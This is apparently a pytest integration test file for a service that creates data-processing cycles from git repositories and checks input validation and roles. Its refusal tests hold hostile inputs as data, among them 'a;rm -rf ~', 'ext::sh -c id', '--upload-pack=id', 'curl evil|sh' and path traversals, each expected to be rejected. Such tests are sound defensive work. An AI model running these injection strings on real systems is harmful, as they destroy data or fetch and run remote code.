"""``/api/cycles``: creation from git repositories, listing, config edits, refusals (no software needed)."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest
from conftest import Service, cycle_body
from cycle_runner_support import git_head, identity_headers

pytestmark = pytest.mark.integration


async def test_create_cycle_tree_and_checkouts(
    client: httpx.AsyncClient, example_repos: dict[str, str], production_root: Path
) -> None:
    resp = await client.post("/api/cycles", json=cycle_body("tree-v1", example_repos))
    assert resp.status_code == 201, resp.text
    cycle = resp.json()
    folder = production_root / "tree-v1"
    assert cycle["path"] == str(folder)
    assert cycle["state"] == "created"
    for sub in (
        "workflow/Snakefile",
        "inputs/datasets/runinfo.json",
        "generated/log",
        "generated/par",
        "generated/plt",
        "generated/tier",
        "generated/tmp",
        "software",
    ):
        assert (folder / sub).exists(), sub
    config = json.loads((folder / "config.json").read_text())
    assert config["setups"]["l200"]["paths"]["tier_dsp"] == "$_/generated/tier/dsp"
    assert config["setups"]["l200"]["pkg_versions"]["pygama"] == "pygama==2.6.2"
    for repo in ("dataflow", "metadata"):
        assert cycle["checkouts"][repo]["commit"] == git_head(example_repos[repo])
        assert cycle["checkouts"][repo]["ref"] == "main"
    assert cycle["checkouts"]["dataflow"]["path"] == "workflow"

    listed = (await client.get("/api/cycles")).json()
    assert "tree-v1" in [c["name"] for c in listed]
    assert (await client.get("/api/cycles/tree-v1/config")).json() == config
    again = await client.post("/api/cycles", json=cycle_body("tree-v1", example_repos))
    assert again.status_code == 409


async def test_slurm_partition_and_account_are_kept(client: httpx.AsyncClient, example_repos: dict[str, str]) -> None:
    body = cycle_body("slurm-placed", example_repos, slurm={"partition": "short", "account": "legend-prod"})
    created = await client.post("/api/cycles", json=body)
    assert created.status_code == 201, created.text
    placed = {"partition": "short", "account": "legend-prod"}
    assert created.json()["slurm"] == placed
    assert (await client.get("/api/cycles/slurm-placed")).json()["slurm"] == placed
    plain = (await client.post("/api/cycles", json=cycle_body("slurm-default", example_repos))).json()
    assert plain["slurm"] is None


async def test_checkout_at_a_commit_records_it(client: httpx.AsyncClient, example_repos: dict[str, str]) -> None:
    commit = git_head(example_repos["metadata"])
    body = cycle_body("pinned", example_repos)
    body["metadata"] = {"url": example_repos["metadata"], "ref": commit[:10]}
    cycle = (await client.post("/api/cycles", json=body)).json()
    assert cycle["checkouts"]["metadata"]["commit"] == commit


async def test_unknown_ref_and_unreachable_repo(
    client: httpx.AsyncClient, example_repos: dict[str, str], production_root: Path, tmp_path: Path
) -> None:
    body = cycle_body("bad-ref", example_repos)
    body["dataflow"] = {"url": example_repos["dataflow"], "ref": "no-such-branch"}
    resp = await client.post("/api/cycles", json=body)
    assert resp.status_code == 422
    assert resp.json()["type"].endswith("checkout-failed")
    assert not (production_root / "bad-ref").exists()
    body = cycle_body("bad-url", example_repos)
    body["metadata"] = {"url": example_repos["metadata"] + "-missing", "ref": "main"}
    assert (await client.post("/api/cycles", json=body)).status_code == 422
    assert not (production_root / "bad-url").exists()


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"name": "../escape"}, "name"),
        ({"name": "a;rm -rf ~"}, "name"),
        ({"name": ".."}, "name"),
        ({"setup": "l200/../../x"}, "setup"),
        ({"dataflow": {"url": "ext::sh -c id", "ref": "main"}}, "dataflow.url"),
        ({"dataflow": {"url": "file:///tmp/x", "ref": "--upload-pack=id"}}, "dataflow.ref"),
        ({"software": [{"name": "../pygama", "url": "file:///tmp/x", "ref": "main"}]}, "software.0.name"),
        ({"slurm": {"partition": "debug --wrap=id"}}, "slurm.partition"),
        ({"slurm": {"account": "-Aother"}}, "slurm.account"),
        ({"slurm": {"partition": 7}}, "slurm.partition"),
        ({"slurm": {"qos": "high"}}, "slurm.qos"),
    ],
)
async def test_unsafe_creation_refused(
    client: httpx.AsyncClient,
    example_repos: dict[str, str],
    production_root: Path,
    change: dict[str, object],
    field: str,
) -> None:
    resp = await client.post("/api/cycles", json={**cycle_body("unsafe", example_repos), **change})
    assert resp.status_code == 422, resp.text
    assert resp.headers["content-type"].startswith("application/problem+json")
    assert field in [e["field"] for e in resp.json()["errors"]]
    assert not (production_root.parent / "escape").exists()
    assert not (production_root / "unsafe").exists()


async def test_unknown_fields_refused(client: httpx.AsyncClient, example_repos: dict[str, str]) -> None:
    resp = await client.post("/api/cycles", json={**cycle_body("x", example_repos), "shell": "rm -rf /"})
    assert resp.status_code == 422
    assert "shell" in [e["field"] for e in resp.json()["errors"]]


async def test_patch_config(
    client: httpx.AsyncClient, example_repos: dict[str, str], production_root: Path, service: Service
) -> None:
    await client.post("/api/cycles", json=cycle_body("patched", example_repos))
    patch = {"setups": {"l200": {"pkg_versions": {"pygama": "pygama==2.6.1"}, "execenv": {"cmd": "env"}}}}
    admin = identity_headers(service.settings.identity_secret, role="admin")
    resp = await client.patch("/api/cycles/patched", json=patch, headers=admin)
    assert resp.status_code == 200, resp.text
    on_disk = json.loads((production_root / "patched" / "config.json").read_text())
    assert on_disk["setups"]["l200"]["pkg_versions"]["pygama"] == "pygama==2.6.1"
    assert on_disk["setups"]["l200"]["execenv"] == {"cmd": "env", "arg": ""}
    for bad, field in [
        ({"paths": {"tier": "$_/../../../etc"}}, "setups.l200.paths.tier"),
        ({"paths": {"log": "/var/log"}}, "setups.l200.paths.log"),
        ({"execenv": {"cmd": "bash -c 'curl evil|sh'"}}, "setups.l200.execenv.cmd"),
        ({"pkg_versions": {"dspeed": "dspeed @ file:///tmp/evil"}}, "setups.l200.pkg_versions.dspeed"),
    ]:
        resp = await client.patch("/api/cycles/patched", json={"setups": {"l200": bad}})
        assert resp.status_code == 422, bad
        assert field in [e["field"] for e in resp.json()["errors"]]
    assert json.loads((production_root / "patched" / "config.json").read_text()) == on_disk
    removed = await client.patch("/api/cycles/patched", json={"setups": {"l200": None}})
    assert removed.status_code == 422
    assert (await client.get("/api/cycles/patched")).json()["software"] == {"state": "none"}


async def test_run_requests_validated(client: httpx.AsyncClient, example_repos: dict[str, str]) -> None:
    await client.post("/api/cycles", json=cycle_body("validated", example_repos))
    for body, field in [
        ({"targets": ["all.gen; rm -rf ~"]}, "targets.0"),
        ({"targets": ["ok.gen", "--delete-all-output"]}, "targets.1"),
        ({"targets": ["../other/x.gen"]}, "targets.0"),
        ({"targets": ["a.gen"], "options": ["snakefile=/tmp/evil.smk"]}, "options.0"),
        ({"targets": ["a.gen"], "executor": "kubernetes"}, "executor"),
        ({"targets": []}, "targets"),
        ({"targets": ["a.gen"], "cores": 5}, "cores"),  # more than the service's budget of 4
    ]:
        resp = await client.post("/api/cycles/validated/runs", json=body)
        assert resp.status_code == 422, body
        assert field in [e["field"] for e in resp.json()["errors"]], resp.json()
    assert (await client.get("/api/cycles/validated/runs")).json() == []


async def test_invalidation_requests_validated(client: httpx.AsyncClient, example_repos: dict[str, str]) -> None:
    await client.post("/api/cycles", json=cycle_body("inv-checks", example_repos))
    for body, field in [
        ({"target": "all.gen"}, "target"),
        ({"tier": "dsp", "run": "../r001"}, "run"),
        ({"tier": "evt"}, "tier"),
        ({}, "tier"),
    ]:
        resp = await client.post("/api/cycles/inv-checks/invalidate", json=body)
        assert resp.status_code == 422, body
        assert field in [e["field"] for e in resp.json()["errors"]]
    plan = (await client.post("/api/cycles/inv-checks/invalidate", json={"tier": "raw"})).json()
    assert plan["dry_run"] is True
    assert plan["count"] == 0


async def test_roles_and_experiments(service: Service, example_repos: dict[str, str]) -> None:
    secret = service.settings.identity_secret
    async with httpx.AsyncClient(base_url=service.url, timeout=30) as http:
        body = cycle_body("authz", example_repos)
        assert (await http.post("/api/cycles", json=body)).status_code == 401
        reader = identity_headers(secret, role="reader")
        assert (await http.post("/api/cycles", json=body, headers=reader)).status_code == 403
        snoplus = identity_headers(secret, experiments=("snoplus",))
        assert (await http.post("/api/cycles", json=body, headers=snoplus)).status_code == 403
        manager = identity_headers(secret)
        assert (await http.post("/api/cycles", json=body, headers=manager)).status_code == 201
        assert (await http.get("/api/cycles/authz", headers=reader)).status_code == 200
        assert (await http.get("/api/cycles/authz", headers=snoplus)).status_code == 403
        assert "authz" not in [c["name"] for c in (await http.get("/api/cycles", headers=snoplus)).json()]
        assert (await http.get("/api/cycles", headers=reader)).json()[0]["name"] == "authz"  # newest first
        runs = await http.post("/api/cycles/authz/runs", json={"targets": ["a.gen"]}, headers=reader)
        assert runs.status_code == 403
        assert (await http.get("/api/cycles/nope", headers=reader)).status_code == 404
